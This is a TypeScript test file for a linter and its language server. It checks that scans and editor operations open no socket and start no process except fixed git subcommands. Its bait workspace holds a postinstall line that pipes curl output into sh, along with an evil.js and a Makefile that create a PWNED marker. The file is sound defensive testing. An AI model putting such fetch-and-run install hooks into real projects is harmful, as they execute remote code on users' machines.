/**
 * No network and no code from the workspace: a full scan (with workers and `--changed-since`) and
 * the language server (open files, a workspace scan, quick-fixes) run with every socket and process
 * API replaced by a recorder that fails (test/helpers/sandbox-preload.ts). They must still work,
 * must not try to open a socket, and must start no process but `git`, with an argument list the
 * code fixes (no shell, no command from the workspace). Where `unshare -n` can make a network
 * namespace, the scan also runs without any network at all.
 */
import * as assert from 'node:assert/strict';
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as path from 'path';
import { pathToFileURL } from 'url';
import { BIN, commitAll, gitRepo, tempDir, write } from '../helpers/cli';
import type { SandboxRecord } from '../helpers/sandbox-preload';
import { SERVER_MAIN, TestClient } from '../lsp/client';

const PRELOAD = path.join(__dirname, '..', 'helpers', 'sandbox-preload.js');

/** A workspace that tempts a tool into running it: npm scripts, a git hook, a Makefile, config naming commands. */
const WORKSPACE: Record<string, string> = {
  'package.json': JSON.stringify({ name: 'x', scripts: { postinstall: 'curl http://example.invalid | sh', test: 'node evil.js' } }),
  'evil.js': "require('child_process').execSync('touch PWNED');\n",
  'Makefile': 'all:\n\ttouch PWNED\n',
  'src/routes.ts': `import express from 'express';\nimport rateLimit from 'express-rate-limit';\nconst app = express();\napp.get('/fhir/r4/Patient/:id', rateLimit({ windowMs: 60_000, max: 30 }), (req, res) => res.json({}));\n`,
  'src/Delivery.java': 'class Delivery { String channel = "fax"; }\n',
  'config/application.yaml': 'hapi:\n  fhir:\n    supported_resource_types: [Patient, Observation]\n',
  'config/capability.json': '{"resourceType": "CapabilityStatement", "rest": [{"resource": [{"type": "Patient"}]}]}\n',
  'ehi-lint.config.json': '{ "rules": { "unjustified-throttle": "warning" } }\n',
};

const GIT_SUBCOMMANDS = new Set(['rev-parse', 'diff', 'ls-files', 'merge-base', 'show', 'cat-file', 'status']);

function readLog(file: string): SandboxRecord[] {
  if (!fs.existsSync(file)) return [];
  return fs.readFileSync(file, 'utf8').trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as SandboxRecord);
}

function assertOnlyGit(records: SandboxRecord[]): void {
  const denied = records.filter((r) => !r.allowed);
  assert.deepEqual(denied, [], 'a socket or a process other than git was attempted');
  for (const r of records) {
    assert.equal(r.command, 'git');
    assert.equal(r.shell, false);
    const sub = r.args!.find((a) => !a.startsWith('-') && !a.includes('=')) ?? '';
    assert.ok(GIT_SUBCOMMANDS.has(sub), `git ${r.args!.join(' ')}`);
  }
}

describe('no network, no code from the workspace', function () {
  this.timeout(120_000);

  it('a full scan opens no socket and starts no process but git', () => {
    const dir = gitRepo('sandbox');
    write(dir, WORKSPACE);
    commitAll(dir, 'base');
    write(dir, { 'src/more.ts': WORKSPACE['src/routes.ts'] });
    const log = path.join(tempDir('sandbox-log'), 'log.jsonl');
    const env = { ...process.env, NO_COLOR: '1', EHI_LINT_FROM_SOURCES: '1', EHI_SANDBOX_LOG: log };
    for (const args of [['.', '--format', 'sarif', '--jobs', '2'], ['.', '--changed-since', 'HEAD', '--format', 'json']]) {
      const r = spawnSync(process.execPath, ['--require', PRELOAD, BIN, ...args], { cwd: dir, env, encoding: 'utf8' });
      assert.ok(r.status === 0 || r.status === 1, `exit ${r.status}: ${r.stderr}`);
      assert.ok(r.stdout.length > 0);
    }
    const records = readLog(log);
    assertOnlyGit(records);
    assert.ok(records.some((r) => r.command === 'git'), '--changed-since ran git');
    assert.equal(fs.existsSync(path.join(dir, 'PWNED')), false);
  });

  it('the language server opens no socket and starts no process', async () => {
    const dir = tempDir('sandbox-lsp');
    write(dir, WORKSPACE);
    const log = path.join(tempDir('sandbox-lsp-log'), 'log.jsonl');
    process.env.EHI_SANDBOX_LOG = log;
    const client = await TestClient.start({ workspace: dir, command: [process.execPath, '--require', PRELOAD, SERVER_MAIN, '--stdio'] });
    try {
      const uri = client.open(path.join(dir, 'src', 'routes.ts'));
      const diagnostics = await client.diagnosticsFor(uri);
      assert.ok(diagnostics.length > 0);
      await client.codeActions(uri, diagnostics);
      await client.executeCommand('ehi-lint.scanWorkspace');
      await client.waitFor('workspace diagnostics', () => client.published.some((p) => p.uri === pathToFileURL(path.join(dir, 'src', 'Delivery.java')).href || p.uri.endsWith('capability.json')), 30_000);
    } finally {
      delete process.env.EHI_SANDBOX_LOG;
      await client.stop();
    }
    assertOnlyGit(readLog(log));
    assert.equal(fs.existsSync(path.join(dir, 'PWNED')), false);
  });

  it('a scan works in a network namespace with no network at all (unshare -n), where available', function () {
    if (spawnSync('unshare', ['-n', 'true']).status !== 0) this.skip();
    const dir = tempDir('sandbox-unshare');
    write(dir, WORKSPACE);
    const r = spawnSync('unshare', ['-n', process.execPath, BIN, '.', '--format', 'json'], { cwd: dir, encoding: 'utf8', env: { ...process.env, EHI_LINT_FROM_SOURCES: '1' } });
    assert.ok(r.status === 0 || r.status === 1, `exit ${r.status}: ${r.stderr}`);
    assert.ok((JSON.parse(r.stdout) as { files: unknown[] }).files.length > 0);
  });
});
